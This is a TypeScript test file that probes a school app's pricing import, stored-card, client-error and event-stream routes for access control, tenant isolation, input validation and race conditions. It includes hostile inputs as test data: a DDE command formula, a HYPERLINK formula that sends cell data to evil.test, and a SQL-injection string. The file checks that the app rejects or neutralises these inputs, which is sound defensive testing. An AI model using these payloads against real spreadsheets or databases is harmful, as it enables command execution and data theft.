import type { AddressInfo } from 'node:net';
import { accounts, clientErrorReports, clientErrors, pricingAdjustments, projects, storedCards } from '@colophon/db';
import { and, count, eq, notInArray, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeDefaultCard } from '../src/modules/cards/cards';
import { MAX_STREAMS_PER_USER } from '../src/modules/events/routes';
import { ADVISER, createTestApp, OWNER, SUPER, type TestApp, until, VOLUNTEER } from './harness';
import { openEventStream, type SseStream } from './sse-client';

/*
 * A review of issue 13's price lists and stored cards and issue 15's public routes, as an attacker
 * would try them: who may call each, on whose records, what malformed input gets (a 400 naming the
 * field, never a 5xx), whether a write can land twice, and whether a CSV carries a formula.
 */

const TREASURER = 'treasurer@colophon.test';
const SCHOOL_ADMIN = 'schooladmin@colophon.test';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
}, 120_000);
afterAll(async () => t?.close());

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
const call = (method: Method, url: string, as: string | undefined, payload?: unknown) =>
  t.call({
    method,
    url,
    ...(as ? { as } : {}),
    ...(payload === undefined ? {} : { payload: payload as Record<string, unknown> }),
  });
const pathsOf = (response: { json(): unknown }) =>
  ((response.json() as { errors?: { path: string }[] }).errors ?? []).map((error) => error.path);
const importCsv = (kind: string, csv: string, as = SUPER) => call('POST', '/api/pricing/import', as, { kind, csv });

async function accountOf(name: string) {
  const [row] = await t.handle.db
    .select({ id: accounts.id, code: accounts.code })
    .from(accounts)
    .where(eq(accounts.name, name));
  if (!row) throw new Error(`no account ${name}`);
  return row;
}

describe('price lists: who may call', () => {
  it.each([OWNER, ADVISER, VOLUNTEER, SCHOOL_ADMIN, TREASURER])(
    '%s can neither import, copy a year nor write or read a price table (403)',
    async (as) => {
      const csv = 'Year,Type,Code,Label,Price,Per\n2031,1,1,Hard,1.00,book';
      expect((await importCsv('pricing_items', csv, as)).statusCode).toBe(403);
      const copy = await call('POST', '/api/pricing/copy_year', as, { from: 2026, to: 2031, what: 'price_lists' });
      expect(copy.statusCode).toBe(403);
      for (const list of ['binding_prices', 'pricing_items', 'shipping_prices', 'direct_school_pricings']) {
        expect((await call('GET', `/api/${list}`, as)).statusCode, list).toBe(403);
        expect((await call('GET', `/api/${list}/export`, as)).statusCode, list).toBe(403);
      }
      expect((await call('GET', '/api/customer_pricing_bases', as)).statusCode).toBe(403);
      const [{ n } = { n: 0 }] = await t.handle.db
        .select({ n: count() })
        .from(sql`pricing_items`)
        .where(sql`year = 2031`);
      expect(n).toBe(0);
    },
  );

  it('without a session every pricing route is a 401', async () => {
    const anonymous = await t.app.inject({
      method: 'POST',
      url: '/api/pricing/import',
      payload: { kind: 'pricing_items', csv: 'Year\n2031' },
    });
    expect(anonymous.statusCode).toBe(401);
    expect((await call('GET', '/api/pricing_adjustments', undefined)).statusCode).toBe(401);
  });

  it("a school's treasurer gets another school's adjustment as a 404 and its export holds only its own", async () => {
    const [own] = await t.handle.db
      .select({ accountId: pricingAdjustments.accountId })
      .from(pricingAdjustments)
      .innerJoin(accounts, eq(accounts.id, pricingAdjustments.accountId))
      .where(eq(accounts.name, 'Lincoln High School'))
      .limit(1);
    const [other] = await t.handle.db
      .select({ id: pricingAdjustments.id, accountId: pricingAdjustments.accountId })
      .from(pricingAdjustments)
      .where(sql`${pricingAdjustments.accountId} <> ${own?.accountId ?? 0}`)
      .limit(1);
    if (!other) throw new Error('the demo has adjustments of two accounts');
    const mine = await call('GET', '/api/pricing_adjustments/export', TREASURER);
    expect(mine.statusCode).toBe(200);
    const visible = await call('GET', `/api/pricing_adjustments/${other.id}`, TREASURER);
    expect([404, 200]).toContain(visible.statusCode);
    if (visible.statusCode === 200) {
      // Only when the treasurer's tree holds that account.
      expect(visible.json().accountId).toBe(other.accountId);
    }
    const foreign = await call('GET', `/api/pricing_adjustments?accountId=${other.accountId}`, ADVISER);
    expect(foreign.statusCode).toBe(403);
  });
});

describe('price lists: malformed calls are a 400 naming the field, never a 5xx', () => {
  it.each([
    ['no body', undefined, ['body']],
    ['an array', [{ kind: 'pricing_items', csv: 'x' }], ['']],
    ['an unknown kind', { kind: 'users', csv: 'Year\n2031' }, ['kind']],
    ['csv a number', { kind: 'pricing_items', csv: 12 }, ['csv']],
    ['csv an array', { kind: 'pricing_items', csv: ['Year', '2031'] }, ['csv']],
    ['an empty file', { kind: 'pricing_items', csv: '' }, ['csv']],
    ['a header alone', { kind: 'pricing_items', csv: 'Year,Type,Code,Label,Price,Per\r\n' }, ['csv']],
    ['a prototype key', { kind: '__proto__', csv: 'Year' }, ['kind']],
  ])('import with %s', async (_what, payload, paths) => {
    const response = await call('POST', '/api/pricing/import', SUPER, payload);
    expect(response.statusCode, response.body).toBe(400);
    for (const path of paths)
      expect(
        pathsOf(response).some((found) => found.startsWith(path)),
        response.body,
      ).toBe(true);
  });

  it('an import sent as text is a 400 (decisions: Errors), JSON cut short a 400', async () => {
    const token = await t.tokenFor(SUPER);
    const plain = await t.app.inject({
      method: 'POST',
      url: '/api/pricing/import',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'text/plain' },
      payload: 'Year,Type\n2031,1',
    });
    expect(plain.statusCode).toBe(400);
    const xml = await t.app.inject({
      method: 'POST',
      url: '/api/pricing/import',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/xml' },
      payload: '<csv/>',
    });
    expect(xml.statusCode).toBe(415);
    const broken = await t.app.inject({
      method: 'POST',
      url: '/api/pricing/import',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      payload: '{"kind":"pricing_items","csv":"Year',
    });
    expect(broken.statusCode).toBe(400);
  });

  it('a file past 2 MB is refused before it is read', async () => {
    const csv = `Year,Type,Code,Label,Price,Per\n${'2031,1,1,Hard,1.00,book\n'.repeat(90_000)}`;
    const response = await importCsv('pricing_items', csv);
    expect([400, 413]).toContain(response.statusCode);
  });

  it.each([
    ['a formula', '=cmd|/C calc!A0', 'lines.2.unitCents'],
    ['a plus formula', '+1+1', 'lines.2.unitCents'],
    ['negative cents', '-1.00', 'lines.2.unitCents'],
    ['fractional cents', '1.005', 'lines.2.unitCents'],
    ['a huge amount', '99999999999999999999', 'lines.2.unitCents'],
    ['past the largest price', '100000.01', 'lines.2.unitCents'],
    ['an amount with a symbol', '$1.00', 'lines.2.unitCents'],
    ['an exponent', '1e3', 'lines.2.unitCents'],
  ])('a price cell with %s is a 400 naming its line and field', async (_what, cell, path) => {
    const response = await importCsv('pricing_items', `Year,Type,Code,Label,Price,Per\n2031,1,1,Hard,"${cell}",book`);
    expect(response.statusCode, response.body).toBe(400);
    expect(pathsOf(response)).toEqual([path]);
  });

  it.each([
    ['a fractional year', '2031.5', 'lines.2.year'],
    ['a year past int4', '99999999999', 'lines.2.year'],
    ['a negative code', '-1', 'lines.2.code'],
    ['an unknown type', '99', 'lines.2.typeItems'],
  ])('%s is a 400 naming its line and field', async (what, cell, path) => {
    const cells = { year: '2031', type: '1', code: '1' };
    if (path.endsWith('year')) cells.year = cell;
    if (path.endsWith('code')) cells.code = cell;
    if (path.endsWith('typeItems')) cells.type = cell;
    const response = await importCsv(
      'pricing_items',
      `Year,Type,Code,Label,Price,Per\n${cells.year},${cells.type},${cells.code},Hard,1.00,book`,
    );
    expect(response.statusCode, `${what}: ${response.body}`).toBe(400);
    expect(pathsOf(response)).toEqual([path]);
  });

  it('an unclosed quote or a quote inside a field names its line', async () => {
    const unclosed = await importCsv('pricing_items', 'Year,Type,Code,Label,Price,Per\n2031,1,1,"Hard,1.00,book');
    expect(unclosed.statusCode).toBe(400);
    expect(pathsOf(unclosed)).toEqual(['lines.2']);
    const inside = await importCsv('pricing_items', 'Year,Type,Code,Label,Price,Per\n2031,1,1,Ha"rd,1.00,book');
    expect(inside.statusCode).toBe(400);
    expect(pathsOf(inside)).toEqual(['lines.2']);
  });

  it('a label longer than its column is a 400, never a database error', async () => {
    const response = await importCsv(
      'pricing_items',
      `Year,Type,Code,Label,Price,Per\n2031,1,1,${'x'.repeat(5000)},1,book`,
    );
    expect(response.statusCode).toBe(400);
    expect(pathsOf(response)).toEqual(['lines.2.label']);
  });

  it('the quote refuses bad numbers naming them, and another tenant’s project is a 404', async () => {
    const [project] = await t.handle.db.select({ id: projects.id }).from(projects).orderBy(projects.id).limit(1);
    if (!project) throw new Error('no project');
    for (const [query, field] of [
      ['taxBasisPoints=1.5', 'taxBasisPoints'],
      ['taxBasisPoints=-1', 'taxBasisPoints'],
      ['taxBasisPoints=1e400', 'taxBasisPoints'],
      ['taxBasisPoints=abc', 'taxBasisPoints'],
      ['copies=100001', 'copies'],
      ['copies=-5', 'copies'],
      ['shipToHomeCopies=0.5', 'shipToHomeCopies'],
    ] as const) {
      const response = await call('GET', `/api/projects/${project.id}/quote?${query}`, SUPER);
      expect(response.statusCode, query).toBe(400);
      expect(pathsOf(response), query).toEqual([field]);
    }
    const visible = await call('GET', '/api/projects?perPage=100', VOLUNTEER);
    expect(visible.json().total).toBeLessThanOrEqual(100);
    const visibleIds = visible.json().data.map((row: { id: number }) => row.id) as number[];
    const [foreign] = await t.handle.db
      .select({ id: projects.id })
      .from(projects)
      .where(visibleIds.length ? notInArray(projects.id, visibleIds) : undefined)
      .limit(1);
    if (!foreign) throw new Error('a project the volunteer does not see');
    expect((await call('GET', `/api/projects/${foreign.id}/quote`, VOLUNTEER)).statusCode).toBe(404);
  });
});

describe('price lists: adversarial CSV files', () => {
  it('takes a BOM, CRLF, quoted commas and doubled quotes', async () => {
    const csv =
      '\uFEFFYear,Type,Code,Label,Price,Per\r\n2032,1,1,"Hard, ""smooth""",1.00,book\r\n2032,1,2,Soft,"1,234.50",order\r\n';
    const response = await importCsv('pricing_items', csv);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({ created: 2, updated: 0 });
    const listed = await call('GET', '/api/pricing_items?year=2032&sort=code', SUPER);
    expect(listed.json().data.map((row: { label: string; unitCents: number }) => [row.label, row.unitCents])).toEqual([
      ['Hard, "smooth"', 100],
      ['Soft', 123450],
    ]);
  });

  it('keeps a label that starts like a formula as text, and its CSV export neutralises it', async () => {
    const labels = ['=HYPERLINK("http://evil.test","x")', '+SUM(A1)', '-2+3', '@cmd'];
    const csv = `Year,Type,Code,Label,Price,Per\n${labels
      .map((label, index) => `2033,1,${index + 1},"${label.replaceAll('"', '""')}",1.00,book`)
      .join('\n')}`;
    const response = await importCsv('pricing_items', csv);
    expect(response.statusCode, response.body).toBe(200);
    const exported = await call('GET', '/api/pricing_items/export?year=2033&sort=code', SUPER);
    expect(exported.statusCode).toBe(200);
    const lines = exported.body.split('\r\n').slice(1);
    expect(lines).toHaveLength(4);
    for (const line of lines) {
      // No cell of the file opens with = + - @ (the label is prefixed with a quote).
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
        expect(/^"?[=+\-@]/.test(cell), line).toBe(false);
      }
    }
  });

  it('imports 10,000 rows in one call, and the same file again updates them all', async () => {
    const rows: string[] = [];
    for (let year = 2040; year < 2050; year++) {
      for (let code = 0; code < 1000; code++) rows.push(`${year},7,${code},Board ${code},${(code % 50) + 1}.25,book`);
    }
    const csv = `Year,Type,Code,Label,Price,Per\n${rows.join('\n')}`;
    const first = await importCsv('pricing_items', csv);
    expect(first.statusCode, first.body.slice(0, 500)).toBe(200);
    expect(first.json()).toEqual({ created: 10_000, updated: 0 });
    const again = await importCsv('pricing_items', csv);
    expect(again.json()).toEqual({ created: 0, updated: 10_000 });
  });

  it('10,000 bad rows: the first 100 problems are listed, nothing is written', async () => {
    const rows = Array.from({ length: 10_000 }, (_, index) => `2051,1,${index % 1000},,x,book`);
    const response = await importCsv('pricing_items', `Year,Type,Code,Label,Price,Per\n${rows.join('\n')}`);
    expect(response.statusCode).toBe(400);
    expect(response.json().errors).toHaveLength(100);
    const listed = await call('GET', '/api/pricing_items?year=2051', SUPER);
    expect(listed.json().total).toBe(0);
  });

  it('an account code that looks like a formula or SQL is only an unknown code', async () => {
    const response = await importCsv(
      'customer_pricings',
      "Account code,Year,Designation\n=cmd,2034,A\n\"x' or '1'='1\",2034,A",
    );
    expect(response.statusCode).toBe(400);
    expect(pathsOf(response)).toEqual(['lines.2.accountCode', 'lines.3.accountCode']);
  });
});

describe('pricing adjustments: an import is not money written twice', () => {
  it('importing the export of the adjustments again adds nothing', async () => {
    const before = (await t.handle.db.select({ n: count() }).from(pricingAdjustments))[0]?.n ?? 0;
    const exported = await call('GET', '/api/pricing_adjustments/export?year=2026', SUPER);
    expect(exported.statusCode).toBe(200);
    const rows = exported.body.split('\r\n').length - 1;
    expect(rows).toBeGreaterThan(0);
    const back = await importCsv('pricing_adjustments', exported.body);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toEqual({ created: 0, updated: rows });
    const after = (await t.handle.db.select({ n: count() }).from(pricingAdjustments))[0]?.n ?? 0;
    expect(after).toBe(before);
  });

  it('the customer pricings export carries the account code, and comes back in unchanged', async () => {
    const exported = await call('GET', '/api/customer_pricings/export?year=2026', SUPER);
    expect(exported.statusCode).toBe(200);
    const [header, first] = exported.body.split('\r\n');
    expect(header).toBe('Account code,Account,Year,Designation,Notes');
    expect(first).toMatch(/^[A-Z0-9-]+,/);
    const rows = exported.body.split('\r\n').length - 1;
    const back = await importCsv('customer_pricings', exported.body);
    expect(back.statusCode, back.body).toBe(200);
    expect(back.json()).toEqual({ created: 0, updated: rows });
  });

  it('the same new adjustments sent twice at once are written once', async () => {
    const lincoln = await accountOf('Lincoln High School');
    const csv = `Account code,Year,Type,Amount,Reason\n${lincoln.code},2035,2,150.00,Review: early signing\n${lincoln.code},2035,1,0.50,Review: per book`;
    const [first, second] = await Promise.all([
      importCsv('pricing_adjustments', csv),
      importCsv('pricing_adjustments', csv),
    ]);
    expect([first.statusCode, second.statusCode]).toEqual([200, 200]);
    const created = [first.json().created, second.json().created].sort();
    expect(created).toEqual([0, 2]);
    const stored = await t.handle.db
      .select({ n: count() })
      .from(pricingAdjustments)
      .where(and(eq(pricingAdjustments.accountId, lincoln.id), eq(pricingAdjustments.year, 2035)));
    expect(stored[0]?.n).toBe(2);
  });

  it('two identical lines in one file and a changed amount are new rows; a file adds only what is not stored', async () => {
    const lincoln = await accountOf('Lincoln High School');
    const line = `${lincoln.code},2036,2,25.00,Review: twice`;
    const twice = await importCsv('pricing_adjustments', `Account code,Year,Type,Amount,Reason\n${line}\n${line}`);
    expect(twice.json()).toEqual({ created: 2, updated: 0 });
    const thrice = await importCsv(
      'pricing_adjustments',
      `Account code,Year,Type,Amount,Reason\n${line}\n${line}\n${line}\n${lincoln.code},2036,2,26.00,Review: twice`,
    );
    expect(thrice.json()).toEqual({ created: 2, updated: 2 });
  });
});

describe('stored cards: races and other tenants', () => {
  it('making a card the default after it was removed is a 404, not a 500', async () => {
    const [card] = await t.handle.db.select().from(storedCards).limit(1);
    if (!card) throw new Error('the demo has stored cards');
    await t.handle.db.delete(storedCards).where(eq(storedCards.id, card.id));
    await expect(makeDefaultCard(t.handle.db, card)).rejects.toMatchObject({ code: 'not_found' });
    await t.handle.db.insert(storedCards).values(card);
  });

  it('a lower role gets 403, another tenant’s card 404, a stale provider id 400 naming it', async () => {
    const [card] = await t.handle.db
      .select()
      .from(storedCards)
      .innerJoin(accounts, eq(accounts.id, storedCards.accountId))
      .where(sql`${accounts.name} <> 'Lincoln High School'`)
      .limit(1);
    if (!card) throw new Error('a school besides Lincoln has a stored card');
    const id = card.stripe_cards.id;
    expect((await call('GET', '/api/stripe_cards', VOLUNTEER)).statusCode).toBe(403);
    const query = `cardId=${card.stripe_cards.cardRef}&customerId=${card.stripe_cards.customerRef}`;
    for (const as of [ADVISER, TREASURER, SCHOOL_ADMIN]) {
      const removed = await call('DELETE', `/api/stripe_cards/${id}?${query}`, as);
      expect([403, 404], as).toContain(removed.statusCode);
      const made = await call('POST', `/api/stripe_cards/${id}/default`, as);
      expect([403, 404], as).toContain(made.statusCode);
    }
    const stale = await call('DELETE', `/api/stripe_cards/${id}?cardId=pm_other&customerId=cus_other`, SUPER);
    expect(stale.statusCode).toBe(400);
    expect(pathsOf(stale)).toEqual(['cardId']);
    const [still] = await t.handle.db.select({ n: count() }).from(storedCards).where(eq(storedCards.id, id));
    expect(still?.n).toBe(1);
  });

  it('a card removed twice at once is removed once; the second call is a 404 or a 204, never a 5xx', async () => {
    const [card] = await t.handle.db.select().from(storedCards).where(eq(storedCards.isDefault, false)).limit(1);
    if (!card) throw new Error('a non-default card');
    const url = `/api/stripe_cards/${card.id}?cardId=${card.cardRef}&customerId=${card.customerRef}`;
    const answers = await Promise.all([call('DELETE', url, SUPER), call('DELETE', url, SUPER)]);
    for (const answer of answers) expect([204, 404]).toContain(answer.statusCode);
    expect(answers.some((answer) => answer.statusCode === 204)).toBe(true);
  });
});

describe('POST /api/client_errors: public, and nothing taken from the body about who', () => {
  const report = (fields: Record<string, unknown> = {}) => ({
    message: 'Review: a widget failed',
    stack: 'Error: Review\n    at Widget (app.js:1:1)',
    ...fields,
  });

  it('a report without a session keeps no user, whatever the body claims', async () => {
    const response = await call('POST', '/api/client_errors', undefined, {
      reports: [report({ message: 'Review: who am I', userId: 1, userEmail: 'super@colophon.test' })],
      userId: 1,
    });
    expect([202, 400]).toContain(response.statusCode);
    if (response.statusCode === 202) {
      const [row] = await t.handle.db
        .select()
        .from(clientErrorReports)
        .where(eq(clientErrorReports.message, 'Review: who am I'));
      expect(row).toMatchObject({ userId: null, userEmail: null });
    }
  });

  it.each([
    ['no body', undefined, 'body'],
    ['an array', [report()], ''],
    ['no reports', { reports: [] }, 'reports'],
    ['eleven reports', { reports: Array.from({ length: 11 }, () => report()) }, 'reports'],
    ['a message that is a number', { reports: [report({ message: 42 })] }, 'reports.0.message'],
    ['a blank message', { reports: [report({ message: '   ' })] }, 'reports.0.message'],
    ['reports an object', { reports: { 0: report() } }, 'reports'],
    ['a context too long', { reports: [report({ context: 'x'.repeat(61) })] }, 'reports.0.context'],
  ])('%s is a 400 naming the field', async (_what, payload, path) => {
    const response = await call('POST', '/api/client_errors', undefined, payload);
    expect(response.statusCode, response.body).toBe(400);
    expect(
      pathsOf(response).some((found) => found.startsWith(path)),
      response.body,
    ).toBe(true);
  });

  it('a body past 16 kB is a 413, a text body a 400, another type a 415, broken JSON a 400', async () => {
    const big = await call('POST', '/api/client_errors', undefined, {
      reports: [report({ stack: 'x'.repeat(20_000) })],
    });
    expect(big.statusCode).toBe(413);
    const text = await t.app.inject({
      method: 'POST',
      url: '/api/client_errors',
      headers: { 'content-type': 'text/plain' },
      payload: JSON.stringify({ reports: [report()] }),
    });
    expect(text.statusCode).toBe(400);
    const form = await t.app.inject({
      method: 'POST',
      url: '/api/client_errors',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: 'reports=1',
    });
    expect(form.statusCode).toBe(415);
    const broken = await t.app.inject({
      method: 'POST',
      url: '/api/client_errors',
      headers: { 'content-type': 'application/json' },
      payload: '{"reports":[',
    });
    expect(broken.statusCode).toBe(400);
  });

  it('the groups and their reports are for super administrators only', async () => {
    const [group] = await t.handle.db.select({ id: clientErrors.id }).from(clientErrors).limit(1);
    if (!group) throw new Error('the demo has client errors');
    for (const as of [OWNER, ADVISER, VOLUNTEER, SCHOOL_ADMIN]) {
      expect((await call('GET', '/api/client_errors', as)).statusCode, as).toBe(403);
      expect((await call('GET', `/api/client_errors/${group.id}/reports`, as)).statusCode, as).toBe(403);
      expect((await call('GET', '/api/client_errors/export', as)).statusCode, as).toBe(403);
    }
    expect((await call('GET', `/api/client_errors/${group.id}/reports`, undefined)).statusCode).toBe(401);
    expect((await call('GET', '/api/client_errors/2147483648/reports', SUPER)).statusCode).toBe(400);
    expect((await call('GET', '/api/client_errors/2147483647/reports', SUPER)).statusCode).toBe(404);
  });

  it('keeps no token of the page address the report came from', async () => {
    const filed = await call('POST', '/api/client_errors', undefined, {
      reports: [
        report({ message: 'Review: reset page failed', url: 'https://c.test/new-password?token=s3cret&next=%2F#t=1' }),
      ],
    });
    expect(filed.statusCode).toBe(202);
    const [row] = await t.handle.db
      .select()
      .from(clientErrorReports)
      .where(eq(clientErrorReports.message, 'Review: reset page failed'));
    expect(row?.url).toBe('https://c.test/new-password?token=[redacted]&next=%2F');
    const [group] = await t.handle.db
      .select()
      .from(clientErrors)
      .where(eq(clientErrors.message, 'Review: reset page failed'));
    expect(group?.lastUrl).not.toContain('s3cret');
  });

  it('a reported message that is a formula is neutralised in the CSV export', async () => {
    const message = '=HYPERLINK("http://evil.test/?"&A1,"Click")';
    const filed = await call('POST', '/api/client_errors', undefined, {
      reports: [report({ message, stack: '-2+3\n    at x (y.js:1:1)', url: '@SUM(1)' })],
    });
    expect(filed.statusCode).toBe(202);
    const exported = await call('GET', '/api/client_errors/export?search=HYPERLINK', SUPER);
    expect(exported.statusCode).toBe(200);
    const [, line] = exported.body.split('\r\n');
    expect(line).toBeDefined();
    for (const cell of line?.match(/("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
      expect(/^"?[=+\-@]/.test(cell), line).toBe(false);
    }
  });
});

describe('GET /api/events and /api/profile/tours: malformed input', () => {
  it.each(['-1', 'abc', '1e400', '1.5', '99999999999999999999'])(
    'events?lastEventId=%s is a 400 naming it',
    async (value) => {
      const response = await call('GET', `/api/events?lastEventId=${value}`, SUPER);
      expect(response.statusCode).toBe(400);
      expect(pathsOf(response)).toEqual(['lastEventId']);
    },
  );

  it('a tour id past the router’s 100 characters is a 414, never a 5xx', async () => {
    const response = await call('PUT', `/api/profile/tours/${'x'.repeat(500)}`, VOLUNTEER, { outcome: 'ended' });
    expect(response.statusCode).toBe(414);
  });

  it('a role that hears no topic gets a 403, and one user holds at most a few streams at once (429)', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const url = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}/api/events`;
    for (const as of [VOLUNTEER, ADVISER, OWNER, SCHOOL_ADMIN]) {
      const refused = await openEventStream(url, { token: await t.tokenFor(as) });
      refused.close();
      expect(refused.status, as).toBe(403);
    }
    const token = await t.tokenFor(SUPER);
    const held: SseStream[] = [];
    try {
      for (let index = 0; index < MAX_STREAMS_PER_USER; index++) held.push(await openEventStream(url, { token }));
      expect(held.map((stream) => stream.status)).toEqual(held.map(() => 200));
      const tooMany = await openEventStream(url, { token });
      tooMany.close();
      expect(tooMany.status).toBe(429);
      held.shift()?.close();
      // The server counts a stream off when its connection closes.
      const again = await until(
        async () => {
          const stream = await openEventStream(url, { token });
          if (stream.status === 200) return stream;
          stream.close();
          return null;
        },
        { what: 'a stream after one was closed' },
      );
      held.push(again);
    } finally {
      for (const stream of held) stream.close();
    }
  });

  it('events without a session is a 401 before any stream opens', async () => {
    const response = await call('GET', '/api/events', undefined);
    expect(response.statusCode).toBe(401);
    expect(response.headers['content-type']).not.toContain('text/event-stream');
  });

  it.each([
    ['__proto__', { outcome: 'ended' }, 'tourId'],
    ['constructor', { outcome: 'ended' }, 'tourId'],
    ['x'.repeat(90), { outcome: 'ended' }, 'tourId'],
    ['proofs', [{ outcome: 'ended' }], ''],
    ['proofs', { outcome: ['ended'] }, 'outcome'],
    ['proofs', { outcome: null }, 'outcome'],
  ])('PUT profile/tours/%s is a 400', async (tourId, payload, path) => {
    const response = await call('PUT', `/api/profile/tours/${encodeURIComponent(tourId)}`, VOLUNTEER, payload);
    expect(response.statusCode, response.body).toBe(400);
    expect(pathsOf(response).some((found) => found.startsWith(path))).toBe(true);
  });
});
